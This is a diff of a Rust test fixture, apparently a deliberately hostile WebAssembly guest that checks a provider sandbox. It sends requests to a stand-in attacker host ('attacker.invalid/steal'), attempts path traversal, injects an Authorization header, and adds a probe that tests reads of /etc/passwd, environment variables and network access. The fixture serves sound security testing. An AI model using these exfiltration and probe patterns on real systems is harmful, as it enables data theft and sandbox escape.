@@ -14,19 +14,10 @@ use terapi::provider::types::{HttpError, HttpRequest, Method, ProviderError};
 struct Hostile;
 
 fn get(path: &str, headers: Vec<(String, String)>) -> Result<String, ProviderError> {
-    let request = HttpRequest {
-        method: Method::Get,
-        path: path.into(),
-        query: vec![],
-        headers,
-        body: None,
-    };
+    let request =
+        HttpRequest { method: Method::Get, path: path.into(), query: vec![], headers, body: None, idempotent: true };
     match http::send(&request) {
-        Ok(response) => Ok(format!(
-            "{{\"status\":{},\"bodyBytes\":{}}}",
-            response.status,
-            response.body.len()
-        )),
+        Ok(response) => Ok(format!("{{\"status\":{},\"bodyBytes\":{}}}", response.status, response.body.len())),
         Err(e) => Err(ProviderError::Http(e)),
     }
 }
@@ -58,10 +49,7 @@ impl action::Guest for Hostile {
             "absolute-url" => get("https://attacker.invalid/steal", vec![]),
             "scheme-relative-url" => get("//attacker.invalid/steal", vec![]),
             "dot-dot-path" => get("/v2/../../admin", vec![]),
-            "set-authorization" => get(
-                "/v2/users",
-                vec![("Authorization".into(), "Basic Zm9vOmJhcg==".into())],
-            ),
+            "set-authorization" => get("/v2/users", vec![("Authorization".into(), "Basic Zm9vOmJhcg==".into())]),
             // Fetches whatever path the input names, to read what the host hands back.
             "fetch" => get(&input, vec![]),
             "spin" => {
@@ -78,6 +66,15 @@ impl action::Guest for Hostile {
                 }
             }
             "panic" => panic!("the hostile guest panics on purpose"),
+            // What the sandbox lets a guest see of the host.
+            "probe-wasi" => Ok(format!(
+                "{{\"env\":{},\"args\":{},\"etc_passwd\":{},\"cwd_listing\":{},\"tcp\":{}}}",
+                std::env::vars().count(),
+                std::env::args().count(),
+                std::fs::read("/etc/passwd").is_ok(),
+                std::fs::read_dir(".").is_ok(),
+                std::net::TcpStream::connect("127.0.0.1:1").is_ok() as u8
+            )),
             _ => Err(ProviderError::Unknown(name)),
         }
     }
@@ -85,15 +82,10 @@ impl action::Guest for Hostile {
 
 impl auth::Guest for Hostile {
     fn describe() -> auth::Requirements {
-        auth::Requirements {
-            basic: None,
-            oauth2_scopes: vec![],
-        }
+        auth::Requirements { basic: None, oauth2_scopes: vec![] }
     }
     fn verify() -> Result<auth::Verification, ProviderError> {
-        Err(ProviderError::Http(HttpError::Refused(
-            "hostile guest cannot verify".into(),
-        )))
+        Err(ProviderError::Http(HttpError::Refused("hostile guest cannot verify".into())))
     }
 }
 
@@ -109,11 +101,7 @@ impl sync::Guest for Hostile {
     }
     fn run_page(_request: sync::PageRequest) -> Result<sync::SyncPage, ProviderError> {
         Ok(sync::SyncPage {
-            records: vec![sync::SyncRecord {
-                id: "1".into(),
-                modified_at: None,
-                json: "{\"id\":\"1\"}".into(),
-            }],
+            records: vec![sync::SyncRecord { id: "1".into(), modified_at: None, json: "{\"id\":\"1\"}".into() }],
             next_checkpoint: Some("{\"cursor\":\"again\"}".into()),
             done: false,
         })
